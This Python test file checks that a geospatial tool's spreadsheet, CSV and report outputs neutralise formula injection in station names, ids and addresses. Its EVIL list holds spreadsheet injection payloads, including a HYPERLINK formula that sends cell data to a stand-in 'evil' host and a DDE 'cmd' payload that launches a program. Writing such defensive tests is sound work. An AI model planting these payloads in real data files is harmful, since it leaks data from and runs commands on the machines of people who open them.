"""geo.io.sheets: no output writes a formula, whatever the names and answers hold.

Every XLSX output is opened with openpyxl and its formula cells counted (there must be
none); every CSV output is checked for cells a spreadsheet would run (``= + - @``, tab,
CR at the start).
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
from typer.testing import CliRunner

import geo
from geo import planner
from geo.cli import app
from geo.io.sheets import FORMULA_START, neutralise, restore

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "data" / "canglang"
#: Cells a spreadsheet would run. (Tab and CR first are neutralised too — see the unit test —
#: but table cells are read stripped, so they are not in the round trips below.)
EVIL = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
WHITESPACE_LED = ["\t=1+1", "\r=1+1"]


def _evil_stations(tmp_path: Path) -> Path:
    """The demo's first stations with formula-looking ids and names."""
    st = pd.read_csv(DEMO / "stations.csv", encoding="utf-8-sig").head(len(EVIL))
    st["编号"] = [f"{e}#{i}" for i, e in enumerate(EVIL)]
    st["名称"] = EVIL
    path = tmp_path / "evil.csv"
    st.to_csv(path, index=False, encoding="utf-8-sig")
    return path


def _formulas(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas stay formulas
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def _live_csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START)]


def test_neutralise_and_restore_round_trip() -> None:
    evil = [*EVIL, *WHITESPACE_LED]
    table = pd.DataFrame({"name": [*evil, "safe", None], "n": list(range(len(evil) + 2))})
    safe = neutralise(table)
    assert all(v.startswith("'") for v in safe["name"][: len(evil)])
    assert safe["name"].iloc[-2] == "safe" and pd.isna(safe["name"].iloc[-1])
    assert safe["n"].tolist() == table["n"].tolist()  # numbers untouched (-1 stays a number)
    back = restore(safe["name"])
    assert back[: len(evil) + 1].tolist() == table["name"][: len(evil) + 1].tolist()
    plain = pd.DataFrame({"x": ["a", "b"]})
    assert neutralise(plain) is plain  # nothing to quote: no copy


def test_points_out_in_every_text_format(tmp_path: Path) -> None:
    st = _evil_stations(tmp_path)
    result = geo.analyze(st, demand=DEMO / "demand.csv")
    nearest = set(result.points["nearest"].dropna())
    assert nearest & {f"{e}#{i}" for i, e in enumerate(EVIL)}  # evil ids are written
    for suffix in (".csv", ".xlsx", ".tsv"):
        out = tmp_path / f"points{suffix}"
        result.write_points(out)
        data = out.read_bytes()
        if suffix == ".xlsx":
            assert _formulas(data) == []
        elif suffix == ".csv":
            assert _live_csv_cells(data) == []
    # read back: the ids are what was written, without the protective quote
    back = pd.read_csv(tmp_path / "points.csv", encoding="utf-8-sig", dtype=str)
    assert set(restore(back["nearest"]).dropna()) == nearest


def test_a_station_file_written_and_read_back_is_unchanged(tmp_path: Path) -> None:
    stations = geo.read_stations(_evil_stations(tmp_path))
    out = tmp_path / "again.csv"
    geo.write_table(stations, out)
    assert _live_csv_cells(out.read_bytes()) == []
    again = geo.read_stations(out)
    assert again["name"].tolist() == EVIL
    assert again["id"].tolist() == stations["id"].tolist()


def test_site_out_xlsx_and_the_app_downloads(tmp_path: Path) -> None:
    st = _evil_stations(tmp_path)
    out = tmp_path / "sites.xlsx"
    cand = pd.DataFrame({"名称": EVIL, "经度": [120.60 + 0.003 * i for i in range(len(EVIL))],
                         "纬度": [31.28] * len(EVIL)})
    cand_path = tmp_path / "cand.csv"
    cand.to_csv(cand_path, index=False, encoding="utf-8-sig")
    res = CliRunner().invoke(app, ["site", str(st), "--demand", str(DEMO / "demand.csv"),
                                   "--candidates", str(cand_path), "--add", "3",
                                   "--out", str(out)])
    assert res.exit_code in (0, 1), res.output
    assert _formulas(out.read_bytes()) == []
    result = geo.analyze(st, demand=DEMO / "demand.csv", grids=DEMO / "grids.geojson")
    for item in planner.downloads(result):
        if item.file_name.endswith((".xlsx", ".csv")):
            data = item.make()
            if item.file_name.endswith(".xlsx"):
                assert _formulas(data) == [], item.file_name
            else:
                assert _live_csv_cells(data) == [], item.file_name
    xlsx = planner.table_bytes(planner.station_report(result), ".xlsx")
    assert _formulas(xlsx) == []


def test_report_xlsx_has_no_formula(tmp_path: Path) -> None:
    st = _evil_stations(tmp_path)
    result = geo.analyze(st, demand=DEMO / "demand.csv", grids=DEMO / "grids.geojson")
    pack = tmp_path / "pack.zip"
    result.report(pack, map_png="static")
    with zipfile.ZipFile(pack) as z:
        assert _formulas(z.read("report.xlsx")) == []


def test_geocode_output_has_no_formula(tmp_path: Path) -> None:
    table = pd.DataFrame({"名称": EVIL, "地址": ["苏州市姑苏区人民路1号"] * len(EVIL),
                          "经度": [120.6] * len(EVIL), "纬度": [31.3] * len(EVIL)})
    src = tmp_path / "addresses.csv"
    table.to_csv(src, index=False, encoding="utf-8-sig")
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"geocoded{suffix}"
        res = CliRunner().invoke(app, ["geocode", str(src), "-o", str(out), "--provider", "demo",
                                       "--city", "苏州市", "--no-cache"])
        assert res.exit_code in (0, 1), res.output
        data = out.read_bytes()
        assert (_formulas(data) if suffix == ".xlsx" else _live_csv_cells(data)) == []
